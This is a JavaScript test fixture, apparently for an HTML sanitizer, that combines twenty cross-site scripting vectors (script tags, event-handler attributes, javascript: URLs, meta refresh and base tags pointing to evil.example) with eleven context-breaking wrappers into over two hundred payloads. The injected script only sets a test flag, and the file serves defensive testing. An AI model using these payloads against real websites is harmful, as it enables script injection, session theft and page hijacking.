// Texts that would like to be more than texts (threat T53): ways to run a script, in the clothes in
// which they get past those who look for them. One that runs sets `ran`.

const script = "globalThis.ran=1";
const waysIn = [
  `<script>${script}</script>`,
  `<img src=x onerror=${script}>`,
  `<svg/onload=${script}>`,
  `<iframe srcdoc="<script>parent.ran=1</script>">`,
  `<iframe src=javascript:parent.ran=1>`,
  `<a href=javascript:${script} autofocus>x</a>`,
  `<details open ontoggle=${script}>`,
  `<input autofocus onfocus=${script}>`,
  `<video><source onerror=${script}>`,
  `<style onload=${script}></style>`,
  `<object data=javascript:${script}>`,
  `<embed src=javascript:${script}>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content=0;url=//evil.example>`,
  `<math><mi xlink:href=javascript:${script}>`,
  `<template shadowrootmode=open><img src=x onerror=${script}>`,
  `x onpointerenter=${script} style=position:fixed;inset:0`,
  `<button form=x formaction=javascript:${script}>`,
  `<link rel=stylesheet href=//evil.example>`,
  `<marquee onstart=${script}>`,
];
const clothes = [
  (way) => way,
  (way) => `">${way}`,
  (way) => `'>${way}`,
  (way) => `-->${way}<!--`,
  (way) => `</title>${way}`,
  (way) => `</bdi></dd></dl>${way}`,
  (way) => `]]>${way}`,
  (way) => `" ${way} x="`,
  (way) => `</noscript></style></script>${way}`,
  (way) => way.toUpperCase().replaceAll("GLOBALTHIS.RAN=1", script),
  (way) => `{{tenant}}${way}{{`,
];

/** More than two hundred, none longer than 128 characters. */
export const payloads = waysIn.flatMap((way) =>
  clothes.map((cloth) => cloth(way).slice(0, 128).trim()),
);
